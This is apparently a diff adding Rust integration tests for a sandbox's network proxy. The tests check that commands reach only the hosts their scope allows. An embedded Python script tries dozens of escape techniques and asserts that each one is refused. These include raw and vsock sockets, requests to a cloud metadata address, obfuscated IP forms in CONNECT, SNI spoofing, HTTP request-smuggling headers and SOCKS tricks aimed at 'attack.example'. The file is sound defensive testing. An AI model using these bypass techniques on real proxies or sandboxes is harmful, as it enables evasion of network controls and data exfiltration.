@@ -1,0 +1,346 @@
+//! Hosts that commands reach by the proxy: what goes through, what is refused, and that there is no other way out.
+
+use std::fs;
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex, PoisonError};
+use std::thread;
+
+use bailiwick::contract::{Caller, Transport};
+use serde_json::{Value, json};
+
+use crate::needs::{lacks_full_sandbox, require_program};
+use support::scope::TestScope;
+use support::service::TestService;
+
+/// An address of this computer that programs do not take for their own loopback.
+const ELSEWHERE: &str = "127.0.0.2";
+
+/// Serves the files of a folder, each connection one request, and keeps what was asked for.
+struct FileServer {
+    port: u16,
+    heads: Arc<Mutex<Vec<String>>>,
+}
+
+impl FileServer {
+    fn new(address: &str, folder: PathBuf) -> Self {
+        let listener = TcpListener::bind((address, 0)).expect("bound");
+        let port = listener.local_addr().expect("bound").port();
+        let heads = Arc::new(Mutex::new(Vec::new()));
+        let (kept, folder) = (Arc::clone(&heads), Arc::new(folder));
+        // It ends with the test's process.
+        thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let (kept, folder) = (Arc::clone(&kept), Arc::clone(&folder));
+                thread::spawn(move || answer(stream, &kept, &folder));
+            }
+        });
+        Self { port, heads }
+    }
+
+    fn heads(&self) -> Vec<String> {
+        self.heads.lock().unwrap_or_else(PoisonError::into_inner).clone()
+    }
+}
+
+fn answer(mut stream: TcpStream, heads: &Mutex<Vec<String>>, folder: &Path) {
+    let (mut bytes, mut buffer) = (Vec::new(), [0; 4096]);
+    while !bytes.windows(4).any(|four| four == b"\r\n\r\n") {
+        match stream.read(&mut buffer) {
+            Ok(length) if length > 0 => bytes.extend_from_slice(&buffer[..length]),
+            Ok(_) | Err(_) => break,
+        }
+    }
+    let head = String::from_utf8_lossy(&bytes).into_owned();
+    heads.lock().unwrap_or_else(PoisonError::into_inner).push(head.clone());
+    let path = head.split(' ').nth(1).unwrap_or("/").split('?').next().unwrap_or("/").to_owned();
+    let mut file = folder.join(path.trim_start_matches('/'));
+    if file.is_dir() {
+        file = file.join("index.html");
+    }
+    let (status, content) = match fs::read(&file) {
+        Ok(content) => ("200 OK", content),
+        Err(_) => ("404 Not Found", Vec::new()),
+    };
+    let kind = match file.extension().and_then(|it| it.to_str()) {
+        Some("html") => "text/html",
+        Some("json") => "application/json",
+        _ => "application/octet-stream",
+    };
+    let length = content.len();
+    let _ = write!(
+        stream,
+        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
+    );
+    if !head.starts_with("HEAD ") {
+        let _ = stream.write_all(&content);
+    }
+}
+
+fn host(hosts: &Value, commands: &[&str]) -> TestService {
+    let network = json!({"hosts": hosts, "otherwise": "deny"});
+    let policy = json!({"sandbox": "full", "network": network, "allowedCommands": commands});
+    let capabilities = ["fs:read", "fs:write", "command:run", "process:manage", "history:read"];
+    TestScope::new().with_capabilities(&capabilities).with_policy(policy).host()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_command_reaches_the_hosts_that_its_scope_names_and_is_told_how_others_are_allowed() {
+    if lacks_full_sandbox() {
+        return;
+    }
+    require_program("curl");
+    let ground = TestScope::new();
+    ground.write("file.txt", "from elsewhere\n");
+    let server = FileServer::new(ELSEWHERE, ground.root());
+    let named = format!("{ELSEWHERE}:{}", server.port);
+    let host = host(&json!([named]), &["curl *"]);
+    let url = format!("http://{named}/file.txt");
+
+    let reached = host.run(json!(["curl", "-sS", url])).await;
+    assert_eq!(reached["stdout"], "from elsewhere\n", "{reached:#}");
+    assert_eq!(reached["sandbox"]["level"], "full", "{reached:#}");
+    assert_eq!(reached["sandbox"]["network"], "hosts", "{reached:#}");
+    let uses = &reached["network"]["hosts"][0];
+    assert_eq!((&uses["host"], &uses["connections"]), (&json!(named), &json!(1)), "{reached:#}");
+    assert!(uses["receivedBytes"].as_u64() > Some(15), "{reached:#}");
+    assert!(reached["network"].get("refused").is_none(), "{reached:#}");
+    let last = host.send(json!({"scope": "app", "op": "history.last"})).await;
+    assert!(last.to_string().contains(&format!("reached {named} (")), "{last:#}");
+
+    // In a tunnel, too, and by SOCKS with the name resolved at the other end.
+    let tunnelled = host.run(json!(["curl", "-sS", "--proxytunnel", url])).await;
+    assert_eq!(tunnelled["stdout"], "from elsewhere\n", "{tunnelled:#}");
+
+    let before = server.heads().len();
+    let other = format!("127.0.0.3:{}", server.port);
+    let answer = host.answer(json!(["curl", "-sS", format!("http://{other}/file.txt")]), json!({})).await;
+    let allow = format!("bailiwick scope allow app --host '{other}'");
+    let printed = answer["data"]["stdout"].as_str().expect("printed");
+    assert!(printed.contains(&allow), "{answer:#}");
+    assert_eq!(answer["data"]["network"]["refused"][0]["allowedBy"], json!(allow), "{answer:#}");
+    assert!(answer["warnings"].to_string().contains(&allow), "{answer:#}");
+
+    // Without the proxy there is no way.
+    let direct = host.run(json!(["curl", "-sS", "--noproxy", "*", url])).await;
+    assert_ne!(direct["exitCode"], 0, "{direct:#}");
+    assert_eq!(direct["stdout"], "", "{direct:#}");
+    assert_eq!(server.heads().len(), before, "nothing came");
+}
+
+/// Tries every way out that a program could think of. Prints a line for each that was not refused.
+const ATTACKS: &str = r##"
+import ctypes, json, os, socket, struct, sys
+allowed, port, abstract = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+proxy = ("127.0.0.1", int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1]))
+TAG = b"ATTACK"
+def talk(*parts):
+    s = socket.create_connection(proxy, 60)
+    for part in parts: s.sendall(part)
+    s.shutdown(socket.SHUT_WR)
+    got = b""
+    while True:
+        try: more = s.recv(65536)
+        except ConnectionError: break
+        if not more: break
+        got += more
+    s.close()
+    return got
+def tcp(family, address):
+    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(60); s.connect(address); s.sendall(TAG); return s.recv(9)
+def udp(family, address):
+    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(TAG, address); s.settimeout(0); return b"sent"
+def unix(name):
+    s = socket.socket(socket.AF_UNIX); s.connect(name); s.sendall(TAG); return b"connected"
+def raw(family, proto):
+    return socket.socket(family, socket.SOCK_RAW, proto) and b"opened"
+host = b"%s:%d" % (allowed.encode(), port)
+other = b"127.0.0.3:%d" % port
+def request(line, *fields, body=TAG): return b"\r\n".join([line, *fields, b"", b""]) + body
+def connect(to): return request(b"CONNECT " + to + b" HTTP/1.1", b"Host: " + to, body=b"")
+def http(field_lines, body=TAG): return request(b"POST http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host, *field_lines, body=body)
+def hello(name, ech=False, twice=False):
+    ext = b""
+    if name is not None:
+        entry = b"\0" + struct.pack(">H", len(name)) + name
+        one = struct.pack(">HH", 0, len(entry) + 2) + struct.pack(">H", len(entry)) + entry
+        ext += one * (2 if twice else 1)
+    body = b"\3\3" + b"R" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(ext)) + ext
+    message = b"\1" + struct.pack(">I", len(body))[1:] + body
+    return b"\x16\3\1" + struct.pack(">H", len(message)) + message
+def socks(kind, address, to=port, command=1):
+    return b"\5\1\0" + bytes([5, command, 0, kind]) + address + struct.pack(">H", to) + TAG
+attacks = {
+    "raw address": lambda: tcp(socket.AF_INET, (allowed, port)),
+    "raw address of another": lambda: tcp(socket.AF_INET, ("127.0.0.3", port)),
+    "public address": lambda: tcp(socket.AF_INET, ("192.0.2.1", port)),
+    "ipv6": lambda: tcp(socket.AF_INET6, ("2001:db8::1", port)),
+    "ipv6 mapped": lambda: tcp(socket.AF_INET6, ("::ffff:" + allowed, port)),
+    "metadata address": lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)),
+    "dns over udp": lambda: udp(socket.AF_INET, ("192.0.2.1", 53)),
+    "dns over udp ipv6": lambda: udp(socket.AF_INET6, ("2001:db8::1", 53)),
+    "dns over tcp": lambda: tcp(socket.AF_INET, ("192.0.2.1", 53)),
+    "multicast": lambda: udp(socket.AF_INET, ("224.0.0.251", 5353)),
+    "resolver": lambda: socket.getaddrinfo("attack.example", 80) and b"resolved",
+    "raw socket": lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP),
+    "packet socket": lambda: raw(socket.AF_PACKET, 3),
+    "vsock": lambda: tcp(socket.AF_VSOCK, (2, port)),
+    "abstract socket": lambda: unix("\0" + abstract),
+    "unix socket": lambda: unix(abstract),
+    "connect other": lambda: talk(connect(other), TAG),
+    "connect metadata": lambda: talk(connect(b"169.254.169.254:80"), TAG),
+    "connect other port": lambda: talk(connect(allowed.encode() + b":1"), TAG),
+    "connect decimal": lambda: talk(connect(b"2130706434:%d" % port), TAG),
+    "connect hex": lambda: talk(connect(b"0x7f000002:%d" % port), TAG),
+    "connect short": lambda: talk(connect(b"127.2:%d" % port), TAG),
+    "connect octal": lambda: talk(connect(b"0177.0.0.2:%d" % port), TAG),
+    "connect mapped other": lambda: talk(connect(b"[::ffff:127.0.0.3]:%d" % port), TAG),
+    "connect ipv6 loopback": lambda: talk(connect(b"[::1]:%d" % port), TAG),
+    "connect user": lambda: talk(connect(b"a@" + host), TAG),
+    "connect no port": lambda: talk(connect(allowed.encode()), TAG),
+    "connect port zero": lambda: talk(connect(allowed.encode() + b":0"), TAG),
+    "connect plus port": lambda: talk(connect(allowed.encode() + b":+%d" % port), TAG),
+    "connect path": lambda: talk(request(b"CONNECT http://" + host + b"/ HTTP/1.1", b"Host: " + host)),
+    "connect other host field": lambda: talk(request(b"CONNECT " + host + b" HTTP/1.1", b"Host: " + other)),
+    "connect body": lambda: talk(request(b"CONNECT " + host + b" HTTP/1.1", b"Host: " + host, b"Content-Length: 6")),
+    "tunnel other sni": lambda: talk(connect(host), hello(b"attack.example"), TAG),
+    "tunnel two sni": lambda: talk(connect(host), hello(b"attack.example", twice=True), TAG),
+    "tunnel cut greeting": lambda: talk(connect(host), hello(b"attack.example")[:20]),
+    "tunnel false greeting": lambda: talk(connect(host), b"\x16\3\1\0\6" + TAG),
+    "tunnel long record": lambda: talk(connect(host), b"\x16\3\1\xff\xff" + TAG),
+    "tunnel other host": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"Host: " + other)),
+    "tunnel no host": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"A: b")),
+    "tunnel two hosts": lambda: talk(connect(host), request(b"GET /ATTACK HTTP/1.1", b"Host: " + host, b"Host: " + other)),
+    "tunnel in tunnel": lambda: talk(connect(host), connect(other), TAG),
+    "tunnel http2": lambda: talk(connect(host), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + TAG),
+    "http other": lambda: talk(request(b"POST http://" + other + b"/ATTACK HTTP/1.1", b"Host: " + other)),
+    "http other host field": lambda: talk(request(b"POST http://" + host + b"/ATTACK HTTP/1.1", b"Host: " + other)),
+    "http two hosts": lambda: talk(http([b"Host: " + host])),
+    "http user": lambda: talk(request(b"GET http://" + other + b"@" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "http user before": lambda: talk(request(b"GET http://" + host + b"@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "http backslash": lambda: talk(request(b"GET http://" + host + b"\\@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "http fragment": lambda: talk(request(b"GET http://" + host + b"#@" + other + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "https without a tunnel": lambda: talk(request(b"GET https://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "ftp": lambda: talk(request(b"GET ftp://" + host + b"/ATTACK HTTP/1.1", b"Host: " + host)),
+    "path alone": lambda: talk(request(b"GET /ATTACK HTTP/1.1", b"Host: " + host)),
+    "length and chunks": lambda: talk(http([b"Content-Length: 6", b"Transfer-Encoding: chunked"])),
+    "two lengths": lambda: talk(http([b"Content-Length: 6", b"Content-Length: 0"])),
+    "length list": lambda: talk(http([b"Content-Length: 6, 6"])),
+    "signed length": lambda: talk(http([b"Content-Length: +6"])),
+    "odd coding": lambda: talk(http([b"Transfer-Encoding: xchunked"])),
+    "two codings": lambda: talk(http([b"Transfer-Encoding: identity, chunked"])),
+    "blank before colon": lambda: talk(http([b"Transfer-Encoding : chunked"])),
+    "folded line": lambda: talk(http([b"A: b", b" Transfer-Encoding: chunked"])),
+    "bare line feed": lambda: talk(http([b"A: b\nTransfer-Encoding: chunked"])),
+    "bare carriage return": lambda: talk(http([b"A: b\rTransfer-Encoding: chunked"])),
+    "nul": lambda: talk(http([b"A: b\0c"])),
+    "upgrade": lambda: talk(http([b"Connection: Upgrade", b"Upgrade: h2c"])),
+    "old version": lambda: talk(request(b"GET http://" + host + b"/ATTACK HTTP/0.9", b"Host: " + host)),
+    "blank target": lambda: talk(request(b"GET http://" + host + b"/ATTACK HTTP/1.1 HTTP/1.1", b"Host: " + host)),
+    "long field": lambda: talk(http([b"A: " + b"b" * 70000])),
+    "many fields": lambda: talk(http([b"A: b"] * 500)),
+    "socks other": lambda: talk(socks(1, socket.inet_aton("127.0.0.3"))),
+    "socks ipv6": lambda: talk(socks(4, socket.inet_pton(socket.AF_INET6, "::1"))),
+    "socks name": lambda: talk(socks(3, b"\x0eattack.example")),
+    "socks bad name": lambda: talk(socks(3, b"\x03a/b")),
+    "socks port": lambda: talk(socks(1, socket.inet_aton(allowed), 1)),
+    "socks bind": lambda: talk(socks(1, socket.inet_aton(allowed), command=2)),
+    "socks udp": lambda: talk(socks(1, socket.inet_aton(allowed), command=3)),
+    "socks login": lambda: talk(b"\5\1\2" + TAG),
+    "socks 4": lambda: talk(b"\4\1" + struct.pack(">H", port) + socket.inet_aton(allowed) + b"\0" + TAG),
+}
+REFUSED = (b"HTTP/1.1 4", b"HTTP/1.1 5", b"HTTP/1.1 200 Connection established\r\n\r\n", b"\5\0\5\2", b"\5\0\5\4", b"\5\0\5\7", b"\5\xff")
+for name, attack in attacks.items():
+    try: got = attack()
+    except OSError as error: continue
+    if got and not got.startswith(REFUSED): print("OPEN", name, got[:80])
+print(len(attacks), "tried")
+"##;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_gets_out_past_the_proxy_or_by_it() {
+    if lacks_full_sandbox() {
+        return;
+    }
+    require_program("python3");
+    let ground = TestScope::new();
+    let server = FileServer::new(ELSEWHERE, ground.root());
+    // At the same port, where nothing is allowed.
+    let other = TcpListener::bind(("127.0.0.3", server.port)).expect("bound");
+    other.set_nonblocking(true).expect("set");
+    let abstract_name = format!("bailiwick-{}", ground.word);
+    let listener = local_socket(&abstract_name);
+    let host = host(&json!([format!("{ELSEWHERE}:{}", server.port)]), &["python3 *"]);
+    host.write("attack.py", ATTACKS);
+    let words = json!(["python3", "attack.py", ELSEWHERE, server.port.to_string(), abstract_name]);
+    let data = host.run(words).await;
+    assert_eq!(data["exitCode"], 0, "{data:#}");
+    let printed = data["stdout"].as_str().expect("printed");
+    assert!(printed.ends_with("tried\n") && !printed.contains("OPEN"), "{printed}");
+    let sent: Vec<String> = server.heads().into_iter().filter(|head| head.contains("ATTACK")).collect();
+    assert!(sent.is_empty(), "{sent:#?}");
+    assert!(other.accept().is_err(), "nothing connected where nothing is allowed");
+    assert!(listener.accept().is_err(), "nothing connected to the computer's abstract socket");
+    // What is sent to the host itself arrives, so that the above is no silence of its own.
+    let plain = "import os,urllib.request as u,sys; print(u.urlopen(sys.argv[1]).status)";
+    let url = format!("http://{ELSEWHERE}:{}/attack.py", server.port);
+    host.write("plain.py", plain);
+    fs::write(ground.path("attack.py"), "x").expect("written");
+    let data = host.run(json!(["python3", "plain.py", url])).await;
+    assert_eq!(data["stdout"], "200\n", "{data:#}");
+}
+
+fn local_socket(name: &str) -> std::os::unix::net::UnixListener {
+    use std::os::linux::net::SocketAddrExt;
+    let address = std::os::unix::net::SocketAddr::from_abstract_name(name).expect("a name");
+    let listener = std::os::unix::net::UnixListener::bind_addr(&address).expect("bound");
+    listener.set_nonblocking(true).expect("set");
+    listener
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_is_started_keeps_its_ports_and_its_proxy_and_other_callers_reach_neither() {
+    if lacks_full_sandbox() {
+        return;
+    }
+    require_program("curl");
+    require_program("python3");
+    let ground = TestScope::new();
+    ground.write("file.txt", "from elsewhere\n");
+    let server = FileServer::new(ELSEWHERE, ground.root());
+    let named = format!("{ELSEWHERE}:{}", server.port);
+    let host = host(&json!([named]), &["curl *", "python3 *"]);
+    // Prints where its proxy is, asks once, and serves its folder.
+    host.write(
+        "serve.py",
+        "import os, sys, http.server as h, urllib.request as u\n\
+         print(os.environ['HTTP_PROXY'], u.urlopen(sys.argv[1]).status, flush=True)\n\
+         h.test(h.SimpleHTTPRequestHandler, h.ThreadingHTTPServer, bind='127.0.0.1', port=8000)\n",
+    );
+    host.write("mine.txt", "mine\n");
+    let process = host.start(json!(["python3", "serve.py", format!("http://{named}/file.txt")])).await;
+    let listens = json!({"any": [{"until": "http", "port": 8000, "path": "/mine.txt"}, {"until": "exit"}]});
+    let data = host.data(json!({"op": "process.wait", "target": process, "input": listens})).await;
+    assert_eq!(data["conditions"][0]["status"], 200, "{data:#}");
+    let log = host.read(&process, json!({})).await;
+    let printed = log["stdout"].as_str().expect("printed");
+    let (proxy, status) = printed.trim().split_once(' ').expect("both");
+    assert_eq!(status, "200", "{log:#}");
+    assert_eq!(log["network"]["hosts"][0]["host"], json!(named), "{log:#}");
+    let mine = host.run(json!(["curl", "-sS", "http://127.0.0.1:8000/mine.txt"])).await;
+    assert_eq!(mine["stdout"], "mine\n", "{mine:#}");
+    // Another caller has another network, where nothing listens at either port.
+    let local = Caller::local(Transport::Stdio);
+    let other = Caller { name: "other".to_owned(), token: Some("other-token".to_owned()), ..local };
+    for words in [
+        json!(["curl", "-sS", "http://127.0.0.1:8000/mine.txt"]),
+        json!(["curl", "-sS", "--noproxy", "", "-x", proxy, format!("http://{named}/file.txt")]),
+    ] {
+        let envelope = json!({"scope": "app", "op": "command.run", "input": {"command": words}});
+        let answer = host.send_as(&other, envelope).await;
+        assert_eq!(answer["data"]["stdout"], "", "{answer:#}");
+        assert_ne!(answer["data"]["exitCode"], 0, "{answer:#}");
+    }
+    host.stop(&process, json!({"graceSeconds": 0})).await;
+}
